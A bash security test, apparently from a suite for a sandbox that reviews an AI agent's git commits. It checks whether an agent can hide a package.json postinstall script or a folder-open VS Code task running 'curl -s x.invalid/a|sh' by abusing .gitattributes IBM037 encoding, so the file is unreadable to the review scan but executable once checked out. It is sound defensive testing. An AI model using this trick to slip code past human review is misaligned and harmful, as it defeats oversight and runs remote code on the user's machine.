#!/bin/bash
# 23 (phase 2): history_accept.go refusing() drops PARSE-FAIL in history
# ("a file no parser could read in an intermediate commit runs nothing
# there": history/18), but the host's git converts a blob on checkout as
# the commit's .gitattributes says. C1 (through the index) adds
# .gitattributes `package.json working-tree-encoding=IBM037` and a
# package.json blob holding the UTF-8 of EBCDIC-decoded bytes: as stored
# (what the scan reads) it is Latin-1 gibberish no JSON parser takes; as
# checked out (git converts UTF-8 to IBM037) it is a package.json whose
# postinstall runs a command. C2 takes both out. V=tasks: the same for a
# folder-open .vscode/tasks.json.
# Got through = a branch carrying C1 made without --accept. End to end
# (V=npm): `git worktree add` of C1 writes the converted package.json and
# `npm install` there runs the agent's command.
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/../history/common.sh"; . "$(dirname "$0")/common.sh"
MODE=${1:-direct}; V=${V:-npm}
NPKG=2 mkproj; write_sandbox "$MODE"; up_sandbox
if [ "$V" = tasks ]; then P=.vscode/tasks.json
	EV='{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"touch '"$M"'; curl -s x.invalid/a|sh","runOptions":{"runOn":"folderOpen"}}]}'
else P=package.json
	EV='{"name":"p","version":"1.0.0","scripts":{"postinstall":"touch '"$M"'; curl -s x.invalid/a|sh"}}'
fi
printf '%s\n' "$EV" | python3 -c 'import sys; sys.stdout.buffer.write(sys.stdin.buffer.read().decode("cp037").encode("utf-8"))' > "$T/blob"
airlock exec -i "$N" -- sh -c 'cat > /tmp/blob' < "$T/blob" || exit 2
cat > "$T/plant.sh" <<'P'
set -e
A=$(printf '%s working-tree-encoding=IBM037\n' "$P" | git hash-object -w --stdin)
B=$(git hash-object -w --no-filters /tmp/blob)
git update-index --add --cacheinfo "100644,$A,.gitattributes" --cacheinfo "100644,$B,$P"; git commit -qm "C1 encoding"
git rm -q --cached .gitattributes; if [ "$P" = package.json ]; then git reset -q HEAD~1 -- package.json; else git rm -q --cached "$P"; fi
echo "// x" >> src/extension.ts; git add src; git commit -qm "C2"
git log --format='%h %s' | tr '\n' '|'; echo; git status --short | head -3
P
plant "$T/plant.sh" "P=$P"
sleep 0.5
airlock review "$N" > "$T/review.txt" 2>&1; echo "review rc=$?"; grep -E "HIGH|agent's commits" "$T/review.txt" | cut -c1-250
as_told enc 'x.invalid/a'
if has_branch; then
	c=$(git log --format='%H %s' "$BR" | grep ' C1 encoding$' | cut -d' ' -f1)
	git worktree add -q --detach "$T/wt" "$c" 2>/dev/null; echo "  host checkout of C1 writes $P: $(head -c 150 "$T/wt/$P")"
	conv=0; grep -q 'x.invalid/a' "$T/wt/$P" && conv=1
	[ "$V" = npm ] && [ $conv = 1 ] && (cd "$T/wt" && timeout 60 npm install --offline --no-audit --no-fund >/dev/null 2>&1)
	git worktree remove --force "$T/wt" 2>/dev/null
	[ -e "$M" ] && echo "  END TO END: npm install in a checkout of C1 ran the agent's command"
	if [ $conv = 1 ]; then
		if [ ! -s "$T/named.txt" ]; then echo "  branch carries C1 (a $P that runs a command once checked out) with no --accept"; R=1
		elif [ $SAW = 0 ]; then echo "  branch carries C1; no diff the user was pointed to showed the command"; R=1
		else echo "  a diff the user read showed it"; fi; fi; fi
finish
